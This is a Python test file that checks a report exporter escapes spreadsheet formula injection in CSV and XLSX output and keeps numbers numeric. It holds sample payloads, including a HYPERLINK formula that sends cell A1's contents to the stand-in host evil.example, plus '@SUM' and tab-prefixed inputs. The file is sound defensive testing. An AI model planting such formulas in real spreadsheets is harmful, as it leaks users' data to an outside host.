"""Formula injection in the report's CSV and XLSX: imported labels and typed text never run,
numbers (negative ones included) stay numbers, and no XLSX cell is ever a formula."""

from __future__ import annotations

import csv
import io

import openpyxl

from mentora.evaluation.stats.tables import ManuscriptTable, TableRow
from mentora.evaluation.stats.tables_export import write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _table() -> ManuscriptTable:
    return ManuscriptTable(
        title="=Table 1",
        header=("Item", "@SUM(1)", "n"),
        rows=(
            TableRow((HYPERLINK, "+1", -2)),
            TableRow(("-2", "-2 as text", 3.5)),
            TableRow(("@SUM(1)", "\tcmd", None)),
        ),
        footnotes=("=1+1 note",),
        header_groups=(("-group", 3),),
    )


def test_csv_quotes_typed_text_and_keeps_numbers() -> None:
    stream = io.StringIO()
    write_csv(_table(), stream, notes=True)
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows[0] == ["Item", "'@SUM(1)", "n"]
    assert rows[1] == ["'" + HYPERLINK, "+1", "-2"]
    assert rows[2] == ["-2", "'-2 as text", "3.5"]
    assert rows[3][:2] == ["'@SUM(1)", "'\tcmd"]
    assert rows[-1] == ["'=1+1 note"]


def test_xlsx_has_no_formula_cell_and_keeps_numbers() -> None:
    stream = io.BytesIO()
    write_xlsx([_table()], stream)
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells if cell.value is not None]
    assert "'=Table 1" in values
    assert "'" + HYPERLINK in values
    assert "'-2 as text" in values
    assert "'@SUM(1)" in values
    assert "'=1+1 note" in values
    assert -2 in values and "+1" in values and "-2" in values and 3.5 in values
    assert not any(isinstance(v, str) and v.startswith(("=", "@", "\t")) for v in values)
